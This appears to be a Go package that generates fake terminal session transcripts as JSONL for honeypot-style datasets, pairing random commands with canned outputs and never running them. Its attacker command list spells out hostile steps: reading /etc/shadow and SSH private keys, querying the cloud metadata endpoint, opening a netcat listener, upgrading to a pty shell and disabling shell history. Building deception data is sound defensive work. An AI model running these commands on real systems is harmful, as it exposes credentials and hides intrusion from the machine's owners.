// Package session emits synthetic terminal session transcripts as
// JSONL, for seeding honeypot-style datasets alongside persona
// artifacts.
package session

import (
	"encoding/json"
	"fmt"
	"io"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"time"
)

var userCmds = []string{
	"ls", "ls -la", "pwd", "whoami", "echo Hello", "id", "date", "uptime", "ps aux",
	"cat ~/.bashrc", "ls -lh ~",
	"mkdir testdir && cd testdir", "touch file.txt && echo 'hi' > file.txt",
	"grep root /etc/passwd", "find / -name '*.conf'", "head -n 5 /etc/passwd",
	"tail -n 10 /var/log/syslog", "du -sh *", "chmod 755 script.sh",
	"chown root:root /tmp/test", "sort /etc/passwd", "wc -l /etc/passwd",
	"cut -d: -f1 /etc/passwd", "alias ll='ls -la'", "history | tail -n 5",
}

var attackerCmds = []string{
	"nmap -sS localhost", "curl http://example.com", "wget http://malicious.site",
	"ssh root@192.168.1.1", "netstat -an", "tcpdump -i eth0", "who", "last",
	"history", "sudo su", "scp file.txt user@host:/tmp", "curl -X POST http://target/api",
	"nc -lvp 4444", "ping -c 4 8.8.8.8", "cat /etc/shadow", "ls -la /root",
	"sudo cat /var/log/auth.log", "export HISTFILE=/dev/null",
	"curl -s http://169.254.169.254/latest/meta-data",
	"find / -perm -4000 -type f 2>/dev/null", "strings /bin/ls",
	"uname -r && cat /proc/version", "lsof -i -n -P", "iptables -L",
	"python -c 'import pty; pty.spawn(\"/bin/bash\")'", "env | grep -i proxy",
	"cat ~/.ssh/id_rsa",
}

var packageCmds = []string{
	"apt list --installed", "dpkg -l", "yum list installed", "brew list",
	"pip list", "conda list", "apt-cache search nginx", "yum info httpd",
	"apt update && apt upgrade -y", "pip install requests",
	"conda create -n testenv python=3.10", "brew install htop",
	"dpkg -s openssh-server", "apt show curl", "pip freeze", "npm list -g",
	"gem list", "snap list", "flatpak list", "cargo install ripgrep",
}

var osCmds = []string{
	"uname -a", "df -h", "top -n 1 -b", "free -m", "env", "hostname", "uptime",
	"dmesg | tail", "vmstat", "sysctl -a", "lsblk", "lscpu", "ip a", "ifconfig",
	"journalctl -xe", "uptime && who", "cat /proc/meminfo", "cat /proc/cpuinfo",
	"systemctl status ssh", "service apache2 status", "getent passwd",
	"ps -eo pid,ppid,cmd,%mem,%cpu --sort=-%mem | head", "iostat", "strace ls",
}

var chains = []string{
	"&& echo '[+] Success'",
	"|| echo '[!] Failed'",
	"| grep -i error", "| grep -i root", "| grep -v '^#'",
	"| awk '{print $1}'", "| awk '{print $NF}'",
	"| tee /tmp/log.txt", "| tee -a /tmp/output.log",
	">> /tmp/output.log", "2>/tmp/error.log",
	"| sed 's/root/admin/g'",
	"| cut -d: -f1",
	"| sort | uniq", "| sort -nr",
	"| xargs -I {} echo '[*] {}'",
	"| base64", "| tr 'a-z' 'A-Z'",
	"| rev", "| head -n 10", "| tail -n 5", "| wc -l",
	"; echo '---'", "&& sleep 1",
}

var fallbackOutputs = []string{
	"Permission denied",
	"No such file or directory",
	"Operation not permitted",
	"Command completed successfully.",
}

const (
	userPrompt = "user@ubuntu:~$ "
	rootPrompt = "root@ubuntu:# "
)

// Generator produces fake shell sessions from an explicit random
// source. A seeded generator is fully deterministic.
type Generator struct {
	rng  *rand.Rand
	cmds []string
}

// NewGenerator builds a session generator, seeded when seed is non-nil.
func NewGenerator(seed *int64) *Generator {
	var src rand.Source
	if seed != nil {
		src = rand.NewSource(*seed)
	} else {
		src = rand.NewSource(time.Now().UnixNano())
	}

	cmds := make([]string, 0, len(userCmds)+len(attackerCmds)+len(packageCmds)+len(osCmds))
	cmds = append(cmds, userCmds...)
	cmds = append(cmds, attackerCmds...)
	cmds = append(cmds, packageCmds...)
	cmds = append(cmds, osCmds...)

	return &Generator{rng: rand.New(src), cmds: cmds}
}

// Session renders one full transcript: prompt, command, output, and the
// next prompt. Roughly one session in ten runs as root; sudo escalates
// the closing prompt.
func (g *Generator) Session() string {
	isRoot := g.rng.Float64() < 0.1
	prompt := userPrompt
	if isRoot {
		prompt = rootPrompt
	}

	cmd := g.addChaining(g.cmds[g.rng.Intn(len(g.cmds))])
	output := g.fakeOutput(cmd)

	next := userPrompt
	if isRoot || strings.Contains(cmd, "sudo") {
		next = rootPrompt
	}
	return fmt.Sprintf("%s%s\n%s\n%s", prompt, cmd, output, next)
}

// addChaining decorates a command with pipes or conjunctions half the
// time; decorated commands gain a second link 30% of the time.
func (g *Generator) addChaining(cmd string) string {
	if g.rng.Float64() >= 0.5 {
		return cmd
	}
	chain := chains[g.rng.Intn(len(chains))]
	if g.rng.Float64() < 0.3 {
		chain += " " + chains[g.rng.Intn(len(chains))]
	}
	return cmd + " " + chain
}

// fakeOutput returns a canned, realistic-looking response keyed on the
// command. Nothing is ever executed.
func (g *Generator) fakeOutput(cmd string) string {
	lower := strings.ToLower(strings.TrimSpace(cmd))

	switch {
	case strings.Contains(lower, "apt list --installed") || strings.Contains(lower, "dpkg -l"):
		packages := []string{
			"ii  curl                  8.5.0-2ubuntu10.4          amd64        command line tool",
			"ii  wget                  1.21.4-1ubuntu4            amd64        retrieves files from the web",
			"ii  nginx                 1.24.0-2ubuntu7            amd64        high performance web server",
			"ii  python3               3.12.3-0ubuntu1            amd64        interactive Python",
			"ii  openssh-server        1:9.6p1-3ubuntu13.3        amd64        secure shell server",
			"ii  docker.io             24.0.7-0ubuntu2            amd64        Docker runtime",
			"ii  git                   1:2.43.0-1ubuntu7          amd64        fast version control",
			"ii  vim                   2:9.0.1000-4ubuntu3        amd64        Vi IMproved",
			"ii  htop                  3.3.0-3                    amd64        interactive process viewer",
			"ii  fail2ban              1.0.2-3                    amd64        ban hosts that cause failures",
			"ii  ufw                   0.36.2-6                   amd64        Uncomplicated Firewall",
		}
		k := 8 + g.rng.Intn(len(packages)-7)
		picked := make([]string, 0, k)
		for _, idx := range g.rng.Perm(len(packages))[:k] {
			picked = append(picked, packages[idx])
		}
		return strings.Join(picked, "\n") + "\n"

	case strings.Contains(lower, "apt update"):
		return "Hit:1 http://archive.ubuntu.com/ubuntu noble InRelease\n" +
			"Hit:2 http://archive.ubuntu.com/ubuntu noble-updates InRelease\n" +
			"Get:3 http://security.ubuntu.com/ubuntu noble-security InRelease [89.7 kB]\n" +
			"Reading package lists... Done\n" +
			"Building dependency tree... Done\n" +
			"27 packages can be upgraded. Run 'apt list --upgradable' to see them.\n"

	case strings.Contains(lower, "apt show"):
		return "Package: nginx\n" +
			"Version: 1.24.0-2ubuntu7\n" +
			"Status: install ok installed\n" +
			"Priority: optional\n" +
			"Section: httpd\n" +
			"Description: high performance web server\n"

	case strings.Contains(lower, "pip list") || strings.Contains(lower, "pip freeze"):
		return "Package            Version\n------------------ ---------\n" +
			"requests==2.32.3\nboto3==1.34.131\nparamiko==3.4.0\nflask==3.0.3\npsutil==5.9.8\n"

	case strings.Contains(lower, "brew list"):
		return "curl    wget    htop    nginx    node    python@3.12    docker    git\n"

	case strings.Contains(lower, "cargo install"):
		fields := strings.Fields(cmd)
		pkg := "ripgrep"
		if len(fields) > 2 {
			pkg = fields[len(fields)-1]
		}
		return fmt.Sprintf("    Updating crates.io index\n  Installing %s v14.1.0\n    Finished release [optimized] target(s) in 9.87s\n", pkg)

	case strings.Contains(lower, "npm list -g"):
		return "/usr/local/lib\n├── npm@10.8.2\n├── pm2@5.3.1\n└── serve@14.2.1\n"

	case strings.Contains(lower, "snap list"):
		return "Name      Version    Rev   Tracking       Publisher   Notes\n" +
			"core22    20240503   1380  latest/stable  canonical   core\n" +
			"htop      3.3.0      3995  latest/stable  snapcrafters -\n"

	case strings.Contains(lower, "netstat"):
		return "Active Internet connections (only servers)\n" +
			"Proto Recv-Q Send-Q Local Address           Foreign Address         State\n" +
			"tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN\n" +
			"tcp        0      0 127.0.0.1:3306          0.0.0.0:*               LISTEN\n"

	case strings.Contains(lower, "lsof -i"):
		return "COMMAND  PID USER   FD   TYPE DEVICE SIZE/OFF NODE NAME\n" +
			"sshd    1234 root    3u  IPv4  12345      0t0  TCP *:22 (LISTEN)\n" +
			"nginx   9012 www-data 6u  IPv4  45678      0t0  TCP *:80 (LISTEN)\n"

	case strings.Contains(lower, "curl"):
		if strings.Contains(lower, "example.com") {
			return "<!doctype html><html><head><title>Example Domain</title></head><body><h1>Example Domain</h1></body></html>\n"
		}
		return "curl: (6) Could not resolve host: malicious.site\n"

	case strings.Contains(lower, "nmap"):
		return "Nmap scan report for localhost (127.0.0.1)\n" +
			"Host is up.\n" +
			"PORT   STATE SERVICE\n" +
			"22/tcp open  ssh\n" +
			"80/tcp open  http\n"
	}

	fields := strings.Fields(cmd)
	outputs := append([]string{fmt.Sprintf("bash: %s: command not found", fields[0])}, fallbackOutputs...)
	return outputs[g.rng.Intn(len(outputs))] + "\n"
}

// record is one JSONL line.
type record struct {
	Text string `json:"text"`
}

// WriteJSONL emits count sessions as one JSON object per line.
func (g *Generator) WriteJSONL(w io.Writer, count int) error {
	enc := json.NewEncoder(w)
	for i := 0; i < count; i++ {
		if err := enc.Encode(record{Text: g.Session()}); err != nil {
			return fmt.Errorf("failed to write session %d: %w", i, err)
		}
	}
	return nil
}

// WriteFile generates count sessions into a JSONL file.
func (g *Generator) WriteFile(path string, count int) error {
	if dir := filepath.Dir(path); dir != "." {
		if err := os.MkdirAll(dir, 0755); err != nil {
			return fmt.Errorf("failed to create output directory: %w", err)
		}
	}
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("failed to create output file: %w", err)
	}
	defer f.Close()

	if err := g.WriteJSONL(f, count); err != nil {
		return err
	}
	return f.Close()
}
